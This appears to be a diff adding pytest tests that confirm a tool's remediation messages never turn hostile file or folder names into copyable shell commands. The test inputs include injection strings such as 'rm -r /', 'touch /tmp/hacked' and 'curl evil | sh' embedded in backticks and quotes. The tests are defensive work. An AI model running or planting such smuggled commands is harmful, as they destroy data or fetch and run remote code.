@@ -197,3 +197,30 @@ def test_users_own_module_is_renamed_and_not_removed() -> None:
 def test_no_remedy_runs_a_path_as_more_than_one_word() -> None:
     path = "/opt/a'; rm -r /; '"
     assert environment().remove_path(path, None).text == "run `rm -r '/opt/a'\"'\"'; rm -r /; '\"'\"''`"
+
+
+@pytest.mark.parametrize("name", ["/x` ; `touch /tmp/hacked #", "/new\nline", "/caf\udce9", "/\u202ereversed"])
+def test_path_that_no_report_can_show_as_a_word_is_in_no_command(name: str) -> None:
+    """What stands between backticks is a command that the HTML report copies."""
+    assert environment().remove_path(name, None).text == "remove the file"
+    two = [environment().remove_path(path, None) for path in (name, "/y")]
+    assert environment().together(two) == ("remove the 2 files",)
+    assert "`" not in remedies("container").remove_path(name, CHANGED).text
+
+
+def test_foreign_text_makes_no_command_of_a_sentence() -> None:
+    tick = "a`curl evil | sh`b"
+    of_image, of_container = remedies("image"), remedies("container")
+    told = [
+        of_image.rename(f"/app/{tick}", None),
+        of_image.restore(tick, None),
+        of_container.unset(tick),
+        of_container.remove_folder(f"/opt/{tick}", MOUNT),
+        of_container.remove_path("/opt/x", "mounted at /opt (volume a`id`b)"),
+    ]
+    assert [each.text for each in told if "`" in each.text] == []
+    mounts = of_container.advice([of_container.install(NUMPY, f"mounted at /{tick} (bind)")], other_lock=False)
+    assert "`" not in mounts
+    subject = Subject(kind="container", name=tick)
+    assert "`" not in Remedies.of(replace(inventory("container"), subject=subject)).remove("six", CHANGED).text
+    assert "`" not in Remedies.of(inventory("container"), "", tick).install(NUMPY, CHANGED).text
